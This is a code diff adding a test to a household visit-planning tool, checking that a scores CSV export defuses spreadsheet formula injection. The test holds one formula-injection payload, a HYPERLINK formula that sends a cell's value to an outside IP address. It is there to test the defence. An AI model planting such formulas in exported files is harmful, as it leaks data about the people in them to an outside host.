@@ -402,3 +402,27 @@ def test_a_forced_promotions_reason_with_a_persons_number_is_refused_before_any_
     assert str(exc.value).startswith(f"原因中含疑似{what}")
     assert "13912345678" not in str(exc.value) and "1234" not in str(exc.value)
     assert not (tmp_path / "ws").exists()  # refused before the workspace was touched
+
+
+def test_a_scores_csv_opens_in_a_spreadsheet_without_running_a_formula(tmp_path: Path) -> None:
+    """score --out scores.csv wrote a supervisor's override reason '=HYPERLINK(…)' as it was,
+    which Excel or WPS runs when the file is opened; it is now marked ', while the columns
+    assign --scores reads back (household_id, model_version) stay as written."""
+    from visit_planner.risk_job import _atomic_write
+
+    link = '=HYPERLINK("http://198.51.100.9/?d="&A2,"看")'
+    scores = pl.DataFrame(
+        {
+            "household_id": ["-H1", "H2"], "final_tier": pl.Series([1, 3], dtype=pl.Int8),
+            "p_tier1": [0.9, 0.1], "model_version": ["3", "3"],
+            "tier_source": ["override", "model"], "override_reason": [link, None],
+            "reasons": [["+elderly"], []],
+        }
+    )  # fmt: skip
+    path = tmp_path / "scores.csv"
+    _atomic_write(scores, path)
+    raw = pl.read_csv(path, infer_schema=False)
+    assert raw["override_reason"][0] == f"'{link}" and raw["reasons"][0] == '["+elderly"]'
+    assert raw["household_id"].to_list() == ["-H1", "H2"]
+    frame, _ = read_table(path, "scores")
+    assert frame["household_id"].to_list() == ["-H1", "H2"]
